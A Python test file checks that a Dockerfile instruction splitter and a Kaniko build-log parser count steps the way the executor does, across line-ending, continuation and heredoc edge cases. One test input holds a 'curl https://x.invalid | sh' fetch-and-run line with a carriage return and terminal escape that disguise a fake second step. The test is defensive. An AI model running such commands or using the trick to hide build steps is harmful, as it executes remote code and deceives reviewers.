"""Steps counted as the executor's parser reads a Dockerfile: lines end at "\\n" only,
continuations joined as BuildKit joins them, so "step i/N" matches the executor's numbering."""

from __future__ import annotations

import pytest

from polymagic.outcome.events import EventKind
from polymagic.outcome.kaniko_log import KanikoLogParser
from polymagic.render.dockerfile import dockerfile_instructions, render_dockerfile
from polymagic.spec.loader import load_dockerfile_init

CASES = [
    (
        "carriage-return",
        "FROM a\nRUN echo one\rRUN echo two\n",
        ["FROM a", "RUN echo one\rRUN echo two"],
    ),
    ("nel", "FROM a\nRUN a\x85b\n", ["FROM a", "RUN a\x85b"]),
    ("line-separator", "FROM a\nRUN a\u2028b\u2029c\n", ["FROM a", "RUN a\u2028b\u2029c"]),
    ("vertical-tab-form-feed", "FROM a\nRUN a\x0bb\x0cc\n", ["FROM a", "RUN a\x0bb\x0cc"]),
    ("crlf-endings", "FROM a\r\nRUN x\r\n", ["FROM a", "RUN x"]),
    ("continuation", "FROM a\nRUN x \\\n  && y\n", ["FROM a", "RUN x && y"]),
    ("continuation-joined-without-space", "FROM a\nRUN ab\\\ncd\n", ["FROM a", "RUN abcd"]),
    ("continuation-with-trailing-blanks", "FROM a\nRUN x \\ \t\n y\n", ["FROM a", "RUN x y"]),
    (
        "comment-and-empty-line-inside-continuation",
        "FROM a\nRUN x \\\n# a comment\n\n   \n && y\nRUN z\n",
        ["FROM a", "RUN x && y", "RUN z"],
    ),
    ("continuation-crlf", "FROM a\r\nRUN x \\\r\n y\r\n", ["FROM a", "RUN x y"]),
    (
        "escaped-backslash-is-no-continuation",
        "FROM a\nRUN x \\\\\nRUN y\n",
        ["FROM a", "RUN x \\\\", "RUN y"],
    ),
    ("bom-and-indent", "\ufeff  FROM a\n\t RUN x\n", ["FROM a", "RUN x"]),
    ("escape-directive", "# escape=`\nFROM a\nRUN x `\n y\n", ["FROM a", "RUN x y"]),
    (
        "directive-after-instruction-is-a-comment",
        "FROM a\n# escape=`\nRUN x `\nRUN y\n",
        ["FROM a", "RUN x `", "RUN y"],
    ),
    (
        "heredoc",
        "FROM a\nRUN cat <<EOF > f\nRUN no\nEOF\nRUN y\n",
        ["FROM a", "RUN cat <<EOF > f", "RUN y"],
    ),
    (
        "heredoc-chomped-quoted",
        "FROM a\nRUN <<-'END'\n\techo\n\tEND\nUSER x\n",
        ["FROM a", "RUN <<-'END'", "USER x"],
    ),
    ("continuation-at-end-of-file", "FROM a\nRUN x \\", ["FROM a", "RUN x"]),
]


@pytest.mark.parametrize(("text", "steps"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_instructions_are_read_as_the_executor_reads_them(text: str, steps: list[str]) -> None:
    assert dockerfile_instructions(text) == steps


def test_a_value_with_a_carriage_return_is_one_step_not_two() -> None:
    spec = load_dockerfile_init(
        {
            "image": "a:1",
            "run": [
                "curl https://x.invalid | sh # \r\x1b[2KRUN pip install numpy",
                "echo \u2028 done",
            ],
        }
    )
    steps = dockerfile_instructions(render_dockerfile(spec))
    assert steps == [
        "FROM a:1",
        "ENV SHELL /bin/bash",
        "WORKDIR /code",
        "RUN curl https://x.invalid | sh # \r\x1b[2KRUN pip install numpy",
        "RUN echo \u2028 done",
    ]


def test_the_step_with_a_carriage_return_is_found_in_the_executors_log() -> None:
    # Kaniko echoes each instruction as the parser read it: the raw "\r" and ESC are in its line.
    steps = ["FROM a", "RUN echo one\r\x1b[2KRUN echo two", "RUN echo \u2028three"]
    parser = KanikoLogParser(steps)
    assert parser.total == 2
    events = parser.feed("\x1b[36mINFO\x1b[0m[0001] RUN echo one\r\x1b[2KRUN echo two ")
    events += parser.feed("\x1b[36mINFO\x1b[0m[0001] RUN echo \u2028three ")
    found = [(e.step, e.total) for e in events if e.kind is EventKind.STEP]
    assert found == [(1, 2), (2, 2)]
    shown = [e.describe() for e in events if e.kind is EventKind.STEP]
    assert shown[0] == "step 1/2: RUN echo one\\x0d\\x1b[2KRUN echo two"


def test_a_from_separated_by_a_tab_starts_a_stage() -> None:
    assert KanikoLogParser(["ARG V=1", "FROM\ta:$V", "RUN x"]).steps == ["RUN x"]
